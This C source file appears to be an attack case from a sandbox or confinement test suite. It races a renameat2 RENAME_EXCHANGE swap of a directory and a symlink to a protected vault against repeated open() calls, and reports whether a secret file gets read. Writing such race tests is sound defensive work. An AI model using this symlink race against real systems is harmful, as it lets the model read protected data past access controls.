// Exchanges a directory in the middle of a path with a link to the secret's, while the path is walked.

#include "attack.h"

static const char *directory, *link_path;
static atomic_bool stop;

static void *exchanging(void *unused) {
  while (!stop) syscall(SYS_renameat2, AT_FDCWD, directory, AT_FDCWD, link_path, 2 /* RENAME_EXCHANGE */);
  return unused;
}

int main(void) {
  directory = WORK("directory");
  link_path = WORK("link");
  if (mkdir(directory, 0700)) refused("mkdir");
  plain(joined("directory/%s", secret_name()));
  if (symlink(vault(), link_path)) refused("symlink");
  pthread_t thread;
  if (pthread_create(&thread, 0, exchanging, 0)) broken("pthread_create");
  const char *path = joined("%s/%s", directory, secret_name());
  for (int index = 0; index < TRIES; index++) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) continue;
    if (is_secret(fd)) won("the secret was read, after %d tries", index + 1);
    close(fd);
  }
  stop = true;
  blocked("0 of %d opens read the secret", TRIES);
}
